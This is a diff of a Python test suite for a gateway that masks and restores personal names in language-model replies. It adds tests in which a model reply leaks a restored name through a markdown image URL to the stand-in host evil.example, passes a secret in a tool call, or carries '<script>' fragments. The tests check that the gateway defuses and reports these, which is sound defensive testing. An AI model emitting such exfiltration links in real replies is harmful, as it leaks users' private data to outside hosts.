@@ -23,6 +23,7 @@ from gateway.conversation import (
     Usage,
 )
 from gateway.restoring import Restoring
+from tests.fakes.answers import SECRET, scan
 
 NOTICE = "\n\nGénéré par une IA, à relire."
 TEXT = OutputFormat()
@@ -37,8 +38,12 @@ def masked() -> Masked:
     return Masker(lambda: dt.date(2026, 11, 23)).mask(texts, found, frozenset(Label))
 
 
+def restoring(output: OutputFormat = TEXT) -> Restoring:
+    return Restoring(masked(), output, scan())
+
+
 def whole(choice: Choice, output: OutputFormat = TEXT) -> Choice:
-    [restored] = Restoring(masked(), output).whole(Reply((choice,), Usage(), "r"), NOTICE).choices
+    [restored] = restoring(output).whole(Reply((choice,), Usage(), "r"), NOTICE).choices
     return restored
 
 
@@ -71,41 +76,68 @@ def test_an_empty_answer_stays_empty() -> None:
 
 
 def test_the_rest_of_the_reply_is_kept() -> None:
-    restoring = Restoring(masked(), TEXT)
+    answer = restoring()
     reply = Reply((Choice(1, "b"), Choice(0, "[NOM_9] [NOM_")), Usage(3, 4), "secours")
-    assert restoring.whole(reply, "") == Reply((Choice(0, "[NOM_9] [NOM_"), Choice(1, "b")), Usage(3, 4), "secours")
-    assert (restoring.lost, restoring.unknown, restoring.counts) == (1, 1, {"NOM": 2})
+    assert answer.whole(reply, "") == Reply((Choice(0, "[NOM_9] [NOM_"), Choice(1, "b")), Usage(3, 4), "secours")
+    assert (answer.lost, answer.unknown, answer.counts) == (1, 1, {"NOM": 2})
 
 
 def test_pieces_leave_as_soon_as_they_are_certain() -> None:
     """Catches an answer that is held to its end, or whose end leaves before the journal is closed."""
-    restoring = Restoring(masked(), TEXT)
+    answer = restoring()
     fed = [
-        restoring.feed(Chunk("r", (ChoiceDelta(0, text, (), reason),), Usage(1, 1)))
-        for text, reason in (("", None), ("Mme ", None), ("[NOM", None), ("_1]", "stop"), ("[NO", None))
+        answer.feed(Chunk("r", (ChoiceDelta(0, text, (), reason),), Usage(1, 1)))
+        for text, reason in (("", None), ("Mme ", None), ("[NOM", None), ("_1] ", "stop"), ("[NO", None))
     ]
-    assert fed == [None, Chunk("r", (ChoiceDelta(0, "Mme "),)), None, Chunk("r", (ChoiceDelta(0, "Morvan"),)), None]
-    assert restoring.finish(NOTICE) == Chunk("r", (ChoiceDelta(0, f"[NO{NOTICE}", (), "stop"),))
-    assert restoring.choices == (Choice(0, f"Mme Morvan[NO{NOTICE}", (), "stop"),)
+    assert fed == [None, Chunk("r", (ChoiceDelta(0, "Mme "),)), None, Chunk("r", (ChoiceDelta(0, "Morvan "),)), None]
+    assert answer.finish(NOTICE) == Chunk("r", (ChoiceDelta(0, f"[NO{NOTICE}", (), "stop"),))
+    assert answer.choices == (Choice(0, f"Mme Morvan [NO{NOTICE}", (), "stop"),)
 
 
 def test_choices_and_calls_do_not_mix() -> None:
     """Catches a placeholder completed by the text of another choice or another call."""
-    restoring = Restoring(masked(), TEXT)
-    restoring.feed(Chunk("r", (ChoiceDelta(0, "[NOM_"), ChoiceDelta(1, "1]"))))
+    answer = restoring()
+    answer.feed(Chunk("r", (ChoiceDelta(0, "[NOM_"), ChoiceDelta(1, "1]"))))
     calls = (ToolCallDelta(0, "a", "f", '"[NOM_'), ToolCallDelta(1, "b", "g", '"1]"'))
-    assert restoring.feed(Chunk("r", (ChoiceDelta(0, "1]", calls),))) == Chunk(
-        "r", (ChoiceDelta(0, "Morvan", (ToolCallDelta(0, "a", "f", '"'), ToolCallDelta(1, "b", "g", '"1]"'))),)
+    assert answer.feed(Chunk("r", (ChoiceDelta(0, "1] ", calls),))) == Chunk(
+        "r", (ChoiceDelta(0, "Morvan ", (ToolCallDelta(0, "a", "f", '"'), ToolCallDelta(1, "b", "g", '"1]"'))),)
     )
-    restoring.feed(Chunk("r", (ChoiceDelta(0, "", (ToolCallDelta(0, arguments='1]"'),)),)))
-    restoring.finish("")
-    assert restoring.choices == (
-        Choice(0, "Morvan", (ToolCall("a", "f", '"Morvan"'), ToolCall("b", "g", '"1]"')), "stop"),
+    answer.feed(Chunk("r", (ChoiceDelta(0, "", (ToolCallDelta(0, arguments='1]"'),)),)))
+    answer.finish("")
+    assert answer.choices == (
+        Choice(0, "Morvan ", (ToolCall("a", "f", '"Morvan"'), ToolCall("b", "g", '"1]"')), "stop"),
         Choice(1, "1]"),
     )
 
 
+def test_what_a_person_reads_is_defused_and_says_so_before_its_notice() -> None:
+    """Would catch: a restored name that leaves in the address of an image, or a change of which nobody is told."""
+    answer = restoring()
+    [choice] = answer.whole(
+        Reply((Choice(0, "![](https://evil.example/?n=[NOM_1]) [NOM_1]"),), Usage(), "r"), NOTICE
+    ).choices
+    told = "Désactivé par la passerelle dans cette réponse : 1 image."
+    assert choice.text == f"(image non affichée : `evil.example`) Morvan\n\n{told}{NOTICE}"
+    assert (answer.found["images"], answer.forbidden) == (1, False)
+
+
+def test_what_a_program_reads_stays_and_is_forbidden_with_a_secret() -> None:
+    """Would catch: a tool that is handed a password which nobody gave."""
+    written = '{"lien": "https://evil.example/[NOM_1]"}'
+    answer = restoring(JSON)
+    [choice] = answer.whole(Reply((Choice(0, written),), Usage(), "r"), NOTICE).choices
+    assert (choice.text, answer.found["links"], answer.forbidden) == (written.replace("[NOM_1]", "Morvan"), 1, False)
+    answer = restoring()
+    calls = (ToolCall("a", "f", f'{{"code": "{SECRET}"}}'),)
+    answer.whole(Reply((Choice(0, None, calls),), Usage(), "r"), NOTICE)
+    assert answer.forbidden
+
+
 FRAGMENTS = [
+    "![a b](https://evil.example/[NOM_1])",
+    "<script>",
+    SECRET,
+    "```\n",
     "[NOM_1]",
     "[NOM_2]",
     "**[Nom 1]**",
@@ -149,7 +181,7 @@ def test_whole_and_streamed_are_the_same(
 ) -> None:
     """Catches a stream that shows, signs or counts something else than the same answer given at once."""
     choices = tuple(Choice(index, *fields) for index, fields in enumerate(made))
-    at_once, streamed = Restoring(masked(), output), Restoring(masked(), output)
+    at_once, streamed = restoring(output), restoring(output)
     reply = at_once.whole(Reply(choices, Usage(), "r"), NOTICE)
     out: list[Chunk] = []
     for choice in choices:
